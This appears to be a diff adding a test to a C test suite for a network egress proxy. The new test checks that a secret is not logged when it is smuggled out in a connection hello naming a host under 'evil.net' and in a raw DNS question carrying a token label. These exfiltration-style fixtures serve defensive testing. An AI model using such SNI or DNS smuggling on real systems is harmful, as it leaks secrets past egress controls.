@@ -11,6 +11,7 @@
 #include "fsm/names.h"
 #include "reactor/base/mem.h"
 #include "reactor/net/stream_mem.h"
+#include "reactor/wire/dns.h"
 #include "tests/world/egress.h"
 
 static struct talker client, origin, other;
@@ -273,6 +274,19 @@ static void a_tunnel_whose_hello_does_not_name_the_host_passes_nothing(void **st
     assert_logged("name-mismatch");
 }
 
+static void a_secret_in_a_hello_or_a_question_is_not_logged(void **state)
+{
+    static const uint8_t question[] = "\0\1\1\0\0\1\0\0\0\0\0\0\037S3cr3t-t0ken-value-of-the-vault\0\0\1\0\1";
+    uint8_t answer[DNS_ANSWER_MAX];
+    (void)state;
+    talker_connect(&client, CONN_DIRECT);
+    talker_say_bytes(&client, hello_for(EGRESS_SECRET ".evil.net"));
+    assert_logged("conn.handshake");
+    assert_true(names_datagram(&egress, (struct span){question, sizeof question - 1}, answer, sizeof answer) > 0);
+    assert_logged("names.asked");
+    assert_kept(EGRESS_SECRET);
+}
+
 static void a_tunnel_that_a_drain_cuts_is_logged(void **state)
 {
     (void)state;
@@ -442,6 +456,7 @@ int main(void)
         STORY(a_connection_that_was_paused_at_its_last_byte_answers_the_next_request),
         STORY(a_tunnel_passes_bytes_once_its_hello_names_the_host),
         STORY(a_tunnel_whose_hello_does_not_name_the_host_passes_nothing),
+        STORY(a_secret_in_a_hello_or_a_question_is_not_logged),
         STORY(a_tunnel_that_a_drain_cuts_is_logged),
         STORY(a_host_with_many_connections_pushes_out_its_own),
         STORY(the_connections_to_a_name_server_are_bounded),
